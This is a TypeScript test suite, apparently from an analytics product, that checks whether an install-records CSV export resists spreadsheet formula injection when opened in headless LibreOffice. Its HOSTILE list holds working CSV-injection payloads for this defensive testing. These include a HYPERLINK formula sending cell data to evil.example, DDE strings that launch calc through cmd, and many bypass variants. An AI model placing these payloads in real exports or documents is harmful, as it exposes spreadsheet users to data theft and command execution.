/** A download of installs, opened by a spreadsheet: no cell of it is a formula, whatever strangers have sent. */

import { execFile, spawnSync } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'

import { expect } from 'chai'

import { installRecord, store, visitRecord } from '../contract/fact-samples.ts'
import { MINE, recently, startTwoOrganizations, type TwoOrganizations } from '../dashboard/support/two-organizations.ts'

const run = promisify(execFile)
const PROGRAM = 'soffice'
/** What cells are split by: as the file says, as a locale with decimal commas has it, and both of the import's usual choices with tabs. */
const SEPARATORS = ['44', '59', '9', '44/59/9'] as const
/**
 * Double quote, UTF-8, from the first line; neither quoted cells as text nor numbers guessed; and what looks like a formula becomes one:
 * a spreadsheet at its most careless.
 */
const careless = (separators: string): string => `CSV:${separators},34,76,1,,0,false,true,false,false,false,-1,true`
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  '"",=1+1',
  'a,=1+1',
  'a"\r\n=1+1',
  ';=1+1',
  '＝1+1',
  "x;=cmd|' /C calc'!A0;",
  'x;=1+1;',
  'x; "=1+1";',
  'x\t=1+1\t',
  'x"\n=1+1;',
  'x;\t=1+1;',
  "x;'=1+1;",
  'x,=1+1;y',
  '=1+1'.padEnd(150, '+1'),
  '𝒳=1+1',
  '\u202E=1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
]

describe('A download of installs in LibreOffice', function () {
  this.timeout(300_000)
  let both: TwoOrganizations
  let folder: string

  before(async function () {
    if (spawnSync(PROGRAM, ['--version']).status !== 0) return this.skip()
    folder = await mkdtemp(join(tmpdir(), 'whence-spreadsheet-'))
    both = await startTwoOrganizations(['acme-one'])
  })
  after(async () => {
    await both?.stop()
    if (folder !== undefined) await rm(folder, { recursive: true, force: true })
  })

  /** The sheet as XML: each formula is an attribute of its cell. */
  async function opened(name: string, csv: string, separators = '44'): Promise<string> {
    await writeFile(join(folder, `${name}.csv`), csv)
    const filter = `--infilter=${careless(separators)}`
    const words = [`-env:UserInstallation=file://${folder}/profile`, '--headless', filter]
    await run(PROGRAM, [...words, '--convert-to', 'fods', '--outdir', folder, join(folder, `${name}.csv`)])
    return readFile(join(folder, `${name}.fods`), 'utf8')
  }
  const formulasIn = (sheet: string): number => sheet.split('table:formula=').length - 1

  it('runs a formula that nothing was done about', async () => {
    expect(formulasIn(await opened('careless', 'a,b\r\n=1+1,x\r\n"=2+2",y\r\n'))).to.equal(2)
    expect(formulasIn(await opened('careless', 'a,x;=1+1;b\r\na,"x\r\n=2+2;",b\r\n', '59'))).to.equal(2)
  })

  it('has no formula, and every install', async () => {
    const visit = visitRecord({ ...MINE, issuedAtMs: recently(0), utm: { source: '=1+1', campaign: '@SUM(1;1)' } })
    const chosen = { resolution: 'matched', visitId: visit.visit.visitId, visitIssuedAtMs: recently(0) } as const
    const installs = HOSTILE.map((text, index) =>
      installRecord({
        ...MINE,
        ...chosen,
        receivedAtMs: recently(index),
        platform: text,
        arch: text,
        installPath: text,
      }),
    )
    await store(both.facts, [visit, ...installs])
    for (const excel of ['', '?excel=true']) {
      const { text } = await both.get(`installs/export${excel}`)
      for (const separators of SEPARATORS) {
        const sheet = await opened(`installs${excel.length}`, text, separators)
        expect(formulasIn(sheet), `${excel} ${separators}`).to.equal(0)
        for (const { install } of installs) expect(sheet).to.contain(install.eventId)
        expect(sheet, 'it is there as text').to.contain('=HYPERLINK(')
      }
    }
  })
})
